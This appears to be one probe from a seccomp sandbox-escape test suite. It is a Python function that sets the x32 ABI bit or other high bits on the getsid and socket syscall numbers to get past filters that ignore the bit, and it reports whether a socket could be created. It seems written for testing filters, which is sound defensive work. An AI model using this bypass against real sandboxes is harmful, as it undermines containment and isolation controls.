"""Call the kernel by the numbers of its other interface.

origin: x32 numbers went past filters that did not look at the bit (a classic of seccomp reviews)
why: the same call under another number
control: depends — few kernels are built with the x32 interface
"""


def attack(target):
    for bit in (0x40000000, 0x80000000, 1 << 32):
        number = bit | target["syscalls"].get("getsid", 0)
        ctypes.set_errno(0)
        result = libc.syscall(ctypes.c_long(number), ctypes.c_long(0))
        if result >= 0 and bit == 0x40000000:
            return escaped("the x32 interface answers")
        error = errno.errorcode.get(ctypes.get_errno(), "")
        number = bit | target["syscalls"]["socket"]
        result = libc.syscall(ctypes.c_long(number), ctypes.c_long(2), ctypes.c_long(1), ctypes.c_long(0))
        if result >= 0:
            return escaped(f"a socket was made by number {number:#x}")
    return blocked("socket", errno.errorcode.get(ctypes.get_errno(), error))
